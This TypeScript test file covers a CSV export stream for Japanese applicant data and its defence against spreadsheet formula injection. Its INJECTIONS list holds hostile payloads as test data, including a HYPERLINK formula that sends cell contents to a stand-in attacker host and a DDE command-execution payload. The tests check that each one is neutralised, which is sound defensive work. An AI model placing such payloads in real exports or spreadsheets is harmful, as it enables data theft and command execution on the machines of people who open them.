import { Writable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { type CsvRow, csvExportStream, neutraliseFormula } from "./csv-export.ts";

/** The whole export as one Buffer: fine for the small files these tests write. */
async function exportBytes(rows: Iterable<CsvRow> | AsyncIterable<CsvRow>, columns: { key: string; header: string }[]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of csvExportStream(rows, columns)) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** The export read back as a spreadsheet would: records of text cells, BOM removed. */
function readBack(bytes: Buffer): string[][] {
  return parse(bytes, { bom: true, relax_column_count: false }) as string[][];
}

const INJECTIONS = [
  '=HYPERLINK("https://attacker.example.invalid/?d="&A1,"詳細はこちら")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "＝1",
  "＋1+1",
  "－2+3",
  "＠SUM(A1)",
  "   =1+1",
  "\u3000=1+1",
  "\n=1",
  "\u200b=1",
  "\ufeff=1",
  "﹦1",
  "+81 90-1234-5678",
  "-5",
];

const SAFE = [
  "山田 花子",
  "東京都千代田区丸の内1-1-1",
  "a=b",
  "1+1",
  "hanako@example.jp",
  "090-1234-5678",
  "ーから始まる",
  "−5",
  "",
  '「引用」と"二重引用符"',
  "一行目\r\n二行目",
];

describe("csvExportStream", () => {
  it("starts with a UTF-8 byte order mark and ends every record with CRLF", async () => {
    const bytes = await exportBytes([{ name: "山田 花子" }, { name: "佐藤 次郎" }], [{ key: "name", header: "氏名" }]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString("utf8")).toBe('"氏名"\r\n"山田 花子"\r\n"佐藤 次郎"\r\n');
  });

  it("writes columns in the order given, from sync and async sources alike", async () => {
    const columns = [
      { key: "b", header: "B" },
      { key: "a", header: "A" },
    ];
    async function* rows() {
      yield { a: "1", b: "2", ignored: "x" };
    }
    expect(readBack(await exportBytes([{ a: "1", b: "2", ignored: "x" }], columns))).toEqual([
      ["B", "A"],
      ["2", "1"],
    ]);
    expect(readBack(await exportBytes(rows(), columns))).toEqual([
      ["B", "A"],
      ["2", "1"],
    ]);
  });

  it("neutralises every injection payload with a leading quote, and leaves other text as it was", async () => {
    const rows = [...INJECTIONS, ...SAFE].map((text) => ({ text }));
    const records = readBack(await exportBytes(rows, [{ key: "text", header: "自由記述" }]));
    expect(records.map((r) => r[0])).toEqual(["自由記述", ...INJECTIONS.map((t) => `'${t}`), ...SAFE]);
  });

  it("neutralises headings too", async () => {
    const records = readBack(await exportBytes([], [{ key: "q", header: "=1+1 志望動機" }]));
    expect(records).toEqual([["'=1+1 志望動機"]]);
  });

  it("writes typed numbers as bare numbers, never prefixed, and text digits as quoted text", async () => {
    const bytes = await exportBytes(
      [{ score: -5, big: -12n, ratio: 0.8, phone: "+81 90-1234-5678", text: "-5", nan: Number.NaN }],
      [
        { key: "score", header: "点数" },
        { key: "big", header: "番号" },
        { key: "ratio", header: "比率" },
        { key: "phone", header: "電話番号" },
        { key: "text", header: "文字" },
        { key: "nan", header: "欠損" },
      ],
    );
    expect(bytes.toString("utf8").split("\r\n")[1]).toBe(`-5,-12,0.8,"'+81 90-1234-5678","'-5",""`);
  });

  it("writes empty, boolean and date cells by fixed rules", async () => {
    const records = readBack(
      await exportBytes(
        [{ none: null, missing: undefined, yes: true, no: false, at: new Date("2026-04-01T00:30:00Z"), bad: new Date("x") }],
        ["none", "missing", "yes", "no", "at", "bad"].map((key) => ({ key, header: key })),
      ),
    );
    expect(records[1]).toEqual(["", "", "true", "false", "2026-04-01T00:30:00.000Z", ""]);
  });

  it("ends the stream with an error rather than write an object as text", async () => {
    const stream = csvExportStream([{ a: { nested: 1 } }], [{ key: "a", header: "A" }]);
    await expect(pipeline(stream, new Writable({ write: (_c, _e, cb) => cb() }))).rejects.toThrow(/column "a" holds a object/);
  });

  it("passes on an error from the source", async () => {
    async function* failing() {
      yield { a: "1" };
      throw new Error("cursor lost");
    }
    const stream = csvExportStream(failing(), [{ key: "a", header: "A" }]);
    await expect(pipeline(stream, new Writable({ write: (_c, _e, cb) => cb() }))).rejects.toThrow("cursor lost");
  });

  it("stops reading the source when the reader goes away", async () => {
    let read = 0;
    let closed = false;
    function* endless() {
      try {
        for (;;) {
          read++;
          yield { a: "x".repeat(100) };
        }
      } finally {
        closed = true;
      }
    }
    const stream = csvExportStream(endless(), [{ key: "a", header: "A" }]);
    for await (const _ of stream) break;
    await new Promise((resolve) => setImmediate(resolve));
    expect(closed).toBe(true);
    expect(read).toBeLessThan(1_000);
  });

  it("streams 100 000 rows with flat memory, reading rows only as fast as the reader takes them", { timeout: 120_000 }, async () => {
    const ROWS = 100_000;
    const gc = (globalThis as { gc?: () => void }).gc;
    const memory = () => {
      const m = process.memoryUsage();
      // Buffers live outside the JavaScript heap: an export held as bytes would show here, not in heapUsed.
      return m.heapUsed + m.arrayBuffers;
    };
    gc?.();
    const baseline = memory();
    let peak = baseline;
    let produced = 0;
    let recordsWritten = 0;
    let bytes = 0;
    let maxAhead = 0;
    const note = "志望動機：お客様の声に丁寧に耳を傾け、問題を解決するお手伝いがしたいと考えています。".repeat(5);
    async function* applicants() {
      for (let i = 0; i < ROWS; i++) {
        produced++;
        maxAhead = Math.max(maxAhead, produced - recordsWritten);
        // With a collector to call, measure what is live every 5 000 rows; without, sample often and catch the garbage too.
        if (gc ? i % 5_000 === 0 : i % 1_000 === 0) {
          gc?.();
          peak = Math.max(peak, memory());
        }
        yield {
          id: 230_000_000 + i,
          name: `山田 花子${i}`,
          kana: "ヤマダ ハナコ",
          email: `applicant${i}@example.jp`,
          phone: `+81 90-${String(i).padStart(4, "0")}-5678`,
          address: "東京都千代田区丸の内一丁目1番1号 サンプルビル12階",
          score: (i % 100) - 50,
          note,
        };
      }
    }
    // A reader slower than the writer, as a download over a network is: every chunk waits a turn of the loop.
    const sink = new Writable({
      highWaterMark: 64 * 1024,
      write(chunk: Buffer, _encoding, done) {
        bytes += chunk.length;
        for (let at = chunk.indexOf(0x0a); at !== -1; at = chunk.indexOf(0x0a, at + 1)) recordsWritten++;
        setImmediate(done);
      },
    });
    const columns = ["id", "name", "kana", "email", "phone", "address", "score", "note"].map((key) => ({ key, header: key }));
    await pipeline(csvExportStream(applicants(), columns), sink);
    const growth = peak - baseline;
    console.info(
      `100 000-row export: ${(bytes / 2 ** 20).toFixed(1)} MiB written, peak memory growth ${(growth / 2 ** 20).toFixed(1)} MiB ` +
        `(${gc ? "with" : "without"} forced collection), at most ${maxAhead} rows read ahead of the reader`,
    );

    expect(recordsWritten).toBe(ROWS + 1);
    // The file is far larger than the bound below, so holding it (as text or as bytes) would fail this test.
    expect(bytes).toBeGreaterThan(64 * 2 ** 20);
    // Backpressure, measured directly: the source is never more than a few buffers' worth of rows ahead.
    expect(maxAhead).toBeLessThan(1_000);
    // Live data is a few dozen rows and under 100 KiB of bytes; the rest of any growth is garbage not yet
    // collected, which V8's young generation lets reach a few tens of MiB before a collection runs.
    expect(growth).toBeLessThan(gc ? 8 * 2 ** 20 : 40 * 2 ** 20);
    expect(growth).toBeLessThan(bytes / 2);
  });
});

describe("neutraliseFormula", () => {
  it.each(INJECTIONS)("prefixes %j", (text) => expect(neutraliseFormula(text)).toBe(`'${text}`));
  it.each(SAFE)("leaves %j", (text) => expect(neutraliseFormula(text)).toBe(text));
});
